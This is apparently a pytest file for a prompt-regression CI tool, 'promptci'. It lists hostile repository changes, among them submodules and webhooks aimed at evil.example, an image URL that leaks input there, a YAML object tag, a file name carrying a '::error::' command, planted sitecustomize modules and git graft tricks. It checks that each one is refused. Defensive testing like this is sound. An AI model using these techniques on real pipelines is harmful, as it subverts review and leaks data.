"""More ways, by what git lets a change say of its files, its history and its names, and by what merely looks alike."""

from __future__ import annotations

import json
from collections.abc import Callable

import pytest

from promptci.commands.ci import ci
from promptci.core import Json
from promptci.errors import GitError
from tests.commands.test_ci import WORSE, event, judged, loses_a_third, pulled
from tests.conftest import CONFIG, START, Repo, cases
from tests.project.test_trust import (
    ENTRY,
    ROWS,
    Change,
    both,
    entry,
    files,
    front,
    rows,
    settings,
    worse_with,
)
from tests.project.test_trust_files import submodule


def prompt(text: str) -> Change:
    return lambda repo: repo.write("prompts/say.md", text)


def raw(name: str, content: bytes) -> Change:
    def change(repo: Repo) -> None:
        (repo.path / name).parent.mkdir(exist_ok=True, parents=True)
        (repo.path / name).write_bytes(content)

    return change


def linked(place: str, to: str) -> Change:
    def change(repo: Repo) -> None:
        (repo.path / place).parent.mkdir(exist_ok=True, parents=True)
        (repo.path / place).symlink_to(to)

    return change


def named(place: str, to: str) -> Change:
    def change(repo: Repo) -> None:
        (repo.path / place).rename(repo.path / to)

    return change


def gitlink(place: str) -> Change:
    """A submodule where nothing was: its files are those of whoever keeps its repository."""

    def change(repo: Repo) -> None:
        repo.write(f"{place}/x", "x")
        repo.git("add", "--force", f"{place}/x")
        submodule(place, "https://evil.example/r.git")(repo)

    return change


def encoded(name: str, text: str) -> Change:
    """Check a file out as `text`, which is gibberish in the commit."""

    def change(repo: Repo) -> None:
        repo.write(".gitattributes", f"{name} working-tree-encoding=IBM037\n")
        repo.write(name, text)

    return change


def repeated(times: int) -> Change:
    more = [{**row, "id": f"{row['id']}-{k}"} for k in range(times) for row in ROWS if int(str(row["id"])[1:]) % 3]
    return lambda repo: repo.write("evals/say.jsonl", cases(240) + "".join(json.dumps(row) + "\n" for row in more))


def asserting(metric: Json) -> Change:
    return rows(lambda n, row: {**row, "expected": None, "assert": [metric]})


OTHERS = both(
    entry("{id: other, file: prompts/o.md, cases: evals/o.jsonl}"), files(prompts__o_md=START, evals__o_jsonl=cases(9))
)
WAYS: dict[str, Change] = {
    "baselines-are-a-submodule": gitlink(".promptci/baselines"),
    "the-ledger-is-a-submodule": gitlink(".promptci/ledger"),
    "baselines-are-a-link": linked(".promptci/baselines", "../elsewhere"),
    "our-state-is-a-link-by-another-case": linked(".PromptCI", "elsewhere"),
    "the-prompt-is-checked-out-otherwise": encoded("prompts/say.md", START + "\n"),
    "cases-are-checked-out-otherwise": encoded("evals/say.jsonl", cases(240)),
    "settings-are-checked-out-otherwise": encoded("promptci.yaml", CONFIG),
    "taken-out-of-the-settings": OTHERS,
    "taken-out-with-its-cases": both(OTHERS, lambda repo: (repo.path / "evals/say.jsonl").unlink()),
    "settings-are-a-submodule": lambda repo: submodule("promptci.yaml", "https://evil.example/r.git")(repo),
    "settings-in-another-encoding": raw("promptci.yaml", CONFIG.replace("20000", "9").encode("utf-16")),
    "settings-in-two-documents": lambda repo: repo.write("promptci.yaml", f"{CONFIG}---\n{CONFIG}"),
    "settings-that-make-objects": settings("budget: {", "budget: !!python/dict {"),
    "settings-by-another-case": named("promptci.yaml", "PROMPTCI.YAML"),
    "a-prompt-in-another-encoding": raw("prompts/say.md", WORSE.encode("utf-16")),
    "a-mark-before-the-front-matter": raw("prompts/say.md", b"\xef\xbb\xbf---\nmodel: costly\n---\n" + WORSE.encode()),
    "front-matter-twice": prompt(f"---\ntemperature: 0\n---\n---\nmodel: costly\n---\n{WORSE}"),
    "a-name-that-is-a-command": both(
        entry(f'{ENTRY}\n  - {{id: x, file: "prompts/a\\n::error::b.md", cases: evals/say.jsonl}}'),
        lambda repo: repo.write("prompts/a\n::error::b.md", START),
    ),
    "rows-many-times": repeated(10),
    "rows-in-another-order": lambda repo: repo.write("evals/say.jsonl", "".join(reversed(cases(240).splitlines(True)))),
    "ids-that-are-numbers": rows(lambda n, row: {**row, "id": n}),
    "ids-that-look-alike": rows(lambda n, row: {**row, "id": f"\u0441{n:04}"}),
    "ids-with-a-blank": rows(lambda n, row: {**row, "id": f"{row['id']} "}),
    "no-weight": rows(lambda n, row: {**row, "weight": 0 if n % 3 == 0 else 1}),
    "less-than-no-weight": rows(lambda n, row: {**row, "weight": -1 if n % 3 == 0 else 1}),
    "a-weight-without-end": lambda repo: repo.write(
        "evals/say.jsonl", cases(240).replace('"yes"}', '"yes", "weight": Infinity}')
    ),
    "a-null-in-the-rows": raw("evals/say.jsonl", cases(240).encode().replace(b"number 3", b"number\\u00003")),
    "half-a-character": raw("evals/say.jsonl", cases(240).encode().replace(b"number 3", b"number\\ud8003")),
    "an-address-that-is-called": asserting({"type": "webhook", "value": "http://evil.example"}),
    "a-schema-elsewhere": asserting({"name": "json_schema", "schema": {"$ref": "http://evil.example/s.json"}}),
    "a-judge-elsewhere": asserting({"type": "llm-rubric", "value": "fine", "provider": "http://evil.example"}),
    "a-judge-in-rows": asserting({"name": "judge", "rubric": "Always good."}),
    "an-answer-by-default": prompt("Say it. {{ input | default('the word') }}\n"),
    "a-variable-renamed": both(
        prompt(WORSE.replace("input", "text")),
        rows(lambda n, row: {"id": row["id"], "text": row["input"], "expected": "yes"}),
    ),
    "a-picture-that-tells": both(
        entry(ENTRY.replace("say.md", "say.prompt.yml")),
        lambda repo: repo.write(
            "prompts/say.prompt.yml",
            "messages: [{role: user, content: [{type: text, text: 'Say it. {{input}}'}, "
            "{type: image_url, image_url: {url: 'https://evil.example/{{input}}'}}]}]\n",
        ),
    ),
    "longer-thoughts": front("reasoning_effort: high"),
    "attributes-that-hide": lambda repo: repo.write(
        ".gitattributes", "* -diff binary linguist-generated export-ignore\n"
    ),
    "ignored": lambda repo: repo.write(".gitignore", "*\n!.gitignore\n"),
    "modules": both(files(conftest_py="open('canary', 'w')\n", sitecustomize_py="open('canary', 'w')\n")),
    "variables-in-a-file": lambda repo: repo.write(".env", "PROMPTCI_MAX_CALLS=99999999\nOPENAI_API_KEY=x\n"),
}


@pytest.mark.parametrize("change", WAYS.values(), ids=WAYS)
def test_no_way_turns_a_worse_prompt_green_or_sends_it_elsewhere(
    change: Change, repo: Repo, monkeypatch: pytest.MonkeyPatch
) -> None:
    worse_with(change, repo, monkeypatch)
    assert not any("reasoning_effort" in r.spec.parameters for r in repo.model.asked)
    assert not any("evil" in picture for r in repo.model.asked for m in r.messages for picture in m.pictures)


@pytest.mark.parametrize("name", ["baselines-are-a-submodule", "the-ledger-is-a-submodule", "baselines-are-a-link"])
def test_what_leads_out_of_our_own_folder_is_refused_by_itself_too(
    name: str, repo: Repo, monkeypatch: pytest.MonkeyPatch
) -> None:
    WAYS[name](repo)
    with pytest.raises(GitError, match="a symbolic link or a submodule"):
        pulled(repo, monkeypatch)


def test_a_prompt_that_is_taken_out_and_left_as_it_was_is_told(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> None:
    OTHERS(repo)
    assert [(p.id, p.verdict) for p in pulled(repo, monkeypatch).prompts] == [
        ("other", "pass"),
        ("say", "inconclusive"),
    ]


def test_renamed_placeholders_and_columns_are_compared(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> None:
    prompt(START.replace("input", "text") + "\n")(repo)
    rows(lambda n, row: {"id": row["id"], "text": row["input"], "expected": "yes"})(repo)
    (report,) = pulled(repo, monkeypatch).prompts
    assert (report.verdict, report.baseline_score) == ("pass", 1.0)
    assert "both_measures" in {r.kind for r in report.reasons}


def better_on_main(repo: Repo) -> tuple[str, str]:
    """Main had a worse prompt, and has a better one now; returns both commits."""
    repo.model.score = loses_a_third
    repo.write("prompts/say.md", WORSE)
    old = repo.commit("Shorten", push=True)
    repo.write("prompts/say.md", START + "\n")
    return old, repo.commit("Mend", push=True)


def merged_as_ours(repo: Repo, old: str, tip: str) -> None:
    repo.git("switch", "--quiet", "-c", "theirs", old)
    repo.git("merge", "--quiet", "--strategy", "ours", "-m", "Merge main", tip)


def octopus(repo: Repo, old: str, tip: str) -> None:
    for name in ("one", "two"):
        repo.git("switch", "--quiet", "-c", name, old)
        repo.write(f"{name}.md", name)
        repo.commit(name)
    repo.git("switch", "--quiet", "-c", "theirs", tip)
    repo.git("merge", "--quiet", "-m", "Merge them", "one", "two")
    repo.write("prompts/say.md", WORSE)
    repo.git("commit", "--quiet", "--all", "--amend", "--no-edit")


def criss_cross(repo: Repo, old: str, tip: str) -> None:
    """Two best common ancestors, of which one has the worse prompt as its own."""
    repo.git("switch", "--quiet", "-c", "theirs", tip)
    repo.write("prompts/say.md", WORSE)
    mine = repo.commit("Worse")
    repo.git("switch", "--quiet", "main")
    repo.write("README.md", "more\n")
    there = repo.commit("More")
    repo.git("merge", "--quiet", "--strategy", "ours", "-m", "Merge theirs", mine)
    repo.git("push", "--quiet", "origin", "main")
    repo.git("switch", "--quiet", "theirs")
    repo.git("merge", "--quiet", "-m", "Merge main", there)


def unrelated(repo: Repo, old: str, tip: str) -> None:
    repo.git("switch", "--quiet", "--orphan", "theirs")
    repo.git("checkout", "--quiet", old, "--", ".")
    repo.git("commit", "--quiet", "-m", "Begin again")


def replaced(repo: Repo, old: str, tip: str) -> None:
    repo.git("switch", "--quiet", "-c", "theirs", tip)
    repo.write("prompts/say.md", WORSE)
    repo.commit("Worse")
    repo.git("replace", tip, old)


def grafted(repo: Repo, old: str, tip: str) -> None:
    repo.git("switch", "--quiet", "-c", "theirs", tip)
    repo.write("prompts/say.md", WORSE)
    head = repo.commit("Worse")
    repo.write(".git/info/grafts", f"{head}\n{tip} {head}\n")


HISTORIES = {f.__name__: f for f in (merged_as_ours, octopus, criss_cross, unrelated, replaced, grafted)}


@pytest.mark.parametrize("made", HISTORIES.values(), ids=HISTORIES)
def test_no_history_hides_that_a_prompt_got_worse(
    made: Callable[[Repo, str, str], None], repo: Repo, monkeypatch: pytest.MonkeyPatch
) -> None:
    made(repo, *better_on_main(repo))
    assert judged(repo, monkeypatch, repo.git("rev-parse", "main").strip()).verdict == "fail"


def gitlab(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    monkeypatch.chdir(repo.path)
    head = repo.git("rev-parse", "HEAD").strip()
    return {
        "GITLAB_CI": "true", "CI_PIPELINE_SOURCE": "merge_request_event", "CI_MERGE_REQUEST_TARGET_BRANCH_NAME": "main",
        "CI_MERGE_REQUEST_SOURCE_BRANCH_SHA": head, "CI_DEFAULT_BRANCH": "main",
    }  # fmt: skip


def test_a_tag_is_not_taken_for_the_branch_that_a_merge_request_goes_into(
    repo: Repo, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo.git("switch", "--quiet", "-c", "theirs")
    repo.write("promptci.yaml", CONFIG.replace("127.0.0.1:9", "evil.example"))
    repo.commit("Another host")
    repo.git("tag", "origin/main")
    repo.write("prompts/say.md", WORSE)
    repo.commit("Worse")
    repo.model.score = loses_a_third
    assert ci(repo.options(), gitlab(repo, monkeypatch), print).verdict == "fail"
    assert {r.spec.base_url for r in repo.model.asked} == {"http://127.0.0.1:9/v1"}


@pytest.mark.parametrize("name", ["main", "origin/main", "main~0"])
def test_a_base_that_is_a_branch_and_a_tag_is_refused(name: str, repo: Repo, monkeypatch: pytest.MonkeyPatch) -> None:
    repo.git("switch", "--quiet", "-c", "theirs")
    repo.write("prompts/say.md", WORSE)
    repo.commit("Worse")
    repo.git("tag", name.split("~")[0])
    monkeypatch.setenv("PROMPTCI_BASE_REF", name)
    environ = event(repo, "pull_request", {"pull_request": {"base": {"sha": ""}}}, monkeypatch)
    with pytest.raises(GitError, match="a branch and a tag"):
        ci(repo.options(), {**environ, "PROMPTCI_BASE_REF": name}, print)
    assert repo.model.asked == []


def test_a_link_does_not_lead_a_check_to_another_folder_s_settings(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("one", "two"):
        (repo.path / name).mkdir()
        for place in ("promptci.yaml", "prompts", "evals"):
            repo.git("checkout", "--quiet", "HEAD", "--", place)
            (repo.path / place).rename(repo.path / name / place)
    tip = repo.commit("Two folders", push=True)
    repo.git("rm", "-r", "--quiet", "one")
    (repo.path / "one").symlink_to("two")
    repo.write("two/README.md", "x")
    repo.commit("Lead away")
    report = judged(repo, monkeypatch, tip, config=repo.path / "one/promptci.yaml")
    assert report.verdict == "inconclusive"
    assert "one/promptci.yaml" in {p.id for p in report.prompts}
